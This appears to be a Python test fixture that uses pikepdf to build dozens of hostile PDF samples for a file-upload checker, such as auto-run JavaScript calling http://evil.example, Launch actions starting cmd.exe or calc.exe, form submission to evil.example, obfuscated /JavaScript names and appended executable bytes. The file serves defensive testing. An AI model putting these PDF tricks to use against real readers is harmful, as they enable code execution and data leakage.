"""PDFs that run something, open something, or cannot be looked into."""

from collections.abc import Callable
from functools import partial
from io import BytesIO
from typing import Any, Literal

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream

from tests.accounts import papers
from tests.accounts.hostile.files import HTML, zipped
from tests.accounts.hostile.kinds import Hostile, harmless, refused

SCRIPT = "holds a script"
BROKEN = "The PDF cannot be opened"
LOCKED = "protected by a password"


def changed(change: Callable[[pikepdf.Pdf], object], **how: Any) -> bytes:
    """A PDF of one page with something done to it."""
    with pikepdf.open(BytesIO(papers.pdf())) as made:
        change(made)
        return papers.saved(made, **how)


def rooted(**entries: Any) -> bytes:
    return changed(lambda made: [made.Root.__setitem__(f"/{key}", value) for key, value in entries.items()])


def noted(**entries: Any) -> bytes:
    """A PDF with a note on its page that has these entries."""
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9])
    for key, value in entries.items():
        note[f"/{key}"] = value
    return changed(lambda made: made.pages[0].obj.__setitem__("/Annots", Array([note])))


def script(words: str = "app.alert(1)") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=words)


def launch(program: str) -> Dictionary:
    return Dictionary(S=Name.Launch, F=program)


def leads(address: str) -> Dictionary:
    return Dictionary(S=Name.URI, URI=address)


def next_after(action: Dictionary) -> Dictionary:
    return Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=action)


def streamed_script(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = Dictionary(
        S=Name.JavaScript, JS=Stream(made, b"app.launchURL('http://evil.example')")
    )


def outlined(made: pikepdf.Pdf, action: Dictionary) -> None:
    entry = made.make_indirect(Dictionary(Title="x", A=action))
    made.Root.Outlines = made.make_indirect(Dictionary(First=entry, Last=entry, Count=1))


def field(made: pikepdf.Pdf, event: str) -> None:
    one = made.make_indirect(
        Dictionary(FT=Name.Tx, T="total", AA=Dictionary({f"/{event}": script(f"event.value = '{event}'")}))
    )
    made.Root.AcroForm = Dictionary(Fields=Array([one]))


def of_page(made: pikepdf.Pdf, event: str) -> None:
    made.pages[0].obj["/AA"] = Dictionary({f"/{event}": script(event)})


def spelt_otherwise() -> bytes:
    return (
        papers.pdf(OpenAction=script("hidden"))
        .replace(b"/JavaScript", b"/J#61v#61Script")
        .replace(b"/JS", b"/J#53")
    )


def xfa(made: pikepdf.Pdf, form: Any) -> None:
    made.Root.AcroForm = Dictionary(Fields=Array(), XFA=form(made))


def locked(r: Literal[2, 3, 4, 6], *, aes: bool, user: str) -> bytes:
    how = pikepdf.Encryption(owner="owner", user=user, R=r, aes=aes, metadata=r >= 4 and aes)
    return changed(lambda made: None, encryption=how)


def forgotten_script() -> bytes:
    """A script that only an earlier revision of the file names."""
    with pikepdf.open(BytesIO(papers.pdf(OpenAction=script("old_secret()")))) as made:
        del made.Root["/OpenAction"]
        new = papers.saved(made)
    comment = b"\n%% /OpenAction << /S /JavaScript /JS (old_secret\\(\\)) >>\n"
    return new + comment


def external(made: pikepdf.Pdf) -> None:
    stream = Stream(made, b"")
    stream.stream_dict["/F"] = "\\\\evil.example\\share\\letter.txt"
    made.Root.Away = made.make_indirect(stream)


def in_postscript(made: pikepdf.Pdf) -> None:
    made.Root.X = made.make_indirect(Stream(made, b"quit", Subtype=Name.PS, Type=Name.XObject))


def cut(part: float) -> bytes:
    whole = papers.pdf()
    return whole[: int(len(whole) * part)]


LOCKS: list[tuple[str, Literal[2, 3, 4, 6], bool, str]] = [
    ("rc4 40.pdf", 2, False, ""),
    ("rc4 128.pdf", 3, False, ""),
    ("aes 128.pdf", 4, True, ""),
    ("aes 256.pdf", 6, True, ""),
    ("aes 256 with a password.pdf", 6, True, "user"),
]
PDFS: list[Hostile] = [
    refused("beginning.pdf", b"%PDF-1.7 and nothing more", BROKEN),
    refused("html after the beginning.pdf", b"%PDF-1.7\n" + HTML, BROKEN),
    *(refused(f"cut {part:.0%}.pdf", partial(cut, part), BROKEN) for part in (0.1, 0.25, 0.4)),
    *(refused(name, partial(locked, r, aes=aes, user=user), LOCKED) for name, r, aes, user in LOCKS),
    *(
        refused(name, made, SCRIPT)
        for name, made in {
            "opens a script.pdf": lambda: rooted(OpenAction=script()),
            "script in a stream.pdf": lambda: changed(streamed_script),
            "script in a packed object.pdf": lambda: changed(
                partial(outlined, action=script("packed")),
                object_stream_mode=pikepdf.ObjectStreamMode.generate,
            ),
            "script by name.pdf": lambda: rooted(
                Names=Dictionary(JavaScript=Dictionary(Names=Array(["a", script()])))
            ),
            "spelt otherwise.pdf": spelt_otherwise,
            "script in a link.pdf": lambda: noted(A=script()),
            "script after a jump.pdf": lambda: noted(A=next_after(script())),
            "script far after a jump.pdf": lambda: noted(A=next_after(next_after(next_after(script())))),
            "script in an outline.pdf": lambda: changed(partial(outlined, action=script())),
            "script in a rendition.pdf": lambda: noted(A=Dictionary(S=Name.Rendition, JS="x()")),
            "launches at once.pdf": lambda: rooted(OpenAction=launch("calc.exe")),
            "launches from a link.pdf": lambda: noted(A=launch("cmd.exe")),
            "launches with words.pdf": lambda: noted(
                A=Dictionary(S=Name.Launch, Win=Dictionary(F="cmd.exe", P="/c calc"))
            ),
            "launches after a jump.pdf": lambda: rooted(OpenAction=next_after(launch("a.sh"))),
            "launches from an outline.pdf": lambda: changed(partial(outlined, action=launch("b"))),
            "sends a form.pdf": lambda: noted(A=Dictionary(S=Name.SubmitForm, F="http://evil.example/")),
            "sends a form at once.pdf": lambda: rooted(
                OpenAction=Dictionary(S=Name.SubmitForm, F="http://evil.example/")
            ),
            "imports data.pdf": lambda: noted(A=Dictionary(S=Name.ImportData, F="c:\\data.fdf")),
            "opens what is inside.pdf": lambda: noted(A=Dictionary(S=Name.GoToE, F="inner.pdf")),
            "opens an address at once.pdf": lambda: rooted(OpenAction=leads("http://evil.example/")),
            "opens an address on a page.pdf": lambda: rooted(AA=Dictionary(O=leads("http://evil.example/"))),
            "rich media.pdf": lambda: noted(Subtype=Name.RichMedia, RichMediaContent=Dictionary()),
            "rich media runs.pdf": lambda: noted(A=Dictionary(S=Name.RichMediaExecute)),
            "three dimensions.pdf": lambda: noted(Subtype=Name("/3D")),
            "film.pdf": lambda: noted(Subtype=Name.Movie, Movie=Dictionary(F="http://evil.example/a")),
            "sound.pdf": lambda: noted(Subtype=Name.Sound),
            "plays a sound.pdf": lambda: noted(A=Dictionary(S=Name.Sound)),
            "screen.pdf": lambda: noted(Subtype=Name.Screen),
            "form in words.pdf": lambda: changed(partial(xfa, form=lambda _: "<xdp/>")),
            "form in a stream.pdf": lambda: changed(partial(xfa, form=lambda pdf: Stream(pdf, b"<xdp/>"))),
            "form in parts.pdf": lambda: changed(
                partial(xfa, form=lambda pdf: Array(["template", Stream(pdf, b"<script/>")]))
            ),
            "postscript inside.pdf": lambda: changed(in_postscript),
            "bytes from elsewhere.pdf": lambda: changed(external),
        }.items()
    ),
    *(
        refused(f"script when a field {event}.pdf", partial(changed, partial(field, event=event)), SCRIPT)
        for event in "KFVC"
    ),
    *(
        refused(f"script when a page {event}.pdf", partial(changed, partial(of_page, event=event)), SCRIPT)
        for event in "OC"
    ),
    *(
        refused(
            f"script when the document {event}.pdf",
            partial(papers.pdf, AA=Dictionary({f"/{event}": script(event)})),
            SCRIPT,
        )
        for event in ("WC", "WS", "DS", "WP", "DP")
    ),
    *(
        harmless(f"link to {name}.pdf", partial(noted, A=leads(address)), address[:6].encode(), b"/URI")
        for name, address in {
            "a site": "http://evil.example/",
            "a script": "javascript:alert(1)",
            "a file": "file:///etc/passwd",
            "a share": "smb://evil.example/share",
        }.items()
    ),
    *(
        harmless(name, made, *gone)
        for name, made, gone in [
            (
                "other file.pdf",
                lambda: noted(A=Dictionary(S=Name.GoToR, F="http://evil.example/b.pdf")),
                (b"GoToR",),
            ),
            (
                "other file at once.pdf",
                lambda: rooted(OpenAction=Dictionary(S=Name.GoToR, F="c.pdf")),
                (b"GoToR",),
            ),
            (
                "address after a jump.pdf",
                lambda: noted(A=next_after(leads("http://e.example/"))),
                (b"e.example",),
            ),
            (
                "prints at once.pdf",
                lambda: rooted(OpenAction=Dictionary(S=Name.Named, N=Name.Print)),
                (b"/Print",),
            ),
            ("empties a form.pdf", lambda: noted(A=Dictionary(S=Name.ResetForm)), (b"ResetForm",)),
            ("hides a note.pdf", lambda: noted(A=Dictionary(S=Name.Hide, T="note")), (b"/Hide",)),
            ("base address.pdf", lambda: rooted(URI=Dictionary(Base="http://evil.example/")), (b"evil",)),
            ("other page.pdf", lambda: rooted(Ref=Dictionary(F="http://evil.example/d.pdf")), (b"evil",)),
            ("zip behind.pdf", lambda: papers.pdf() + zipped(evil_exe=b"MZ"), (b"PK\x03\x04",)),
            ("html behind.pdf", lambda: papers.pdf() + HTML, (b"<script",)),
            ("program behind.pdf", lambda: papers.pdf() + b"MZ\x90\x00" + bytes(90), (b"MZ\x90",)),
            ("forgotten script.pdf", forgotten_script, (b"old_secret", b"JavaScript")),
            (
                "html in a comment.pdf",
                lambda: papers.pdf().replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1),
                (b"<script",),
            ),
        ]
    ),
]
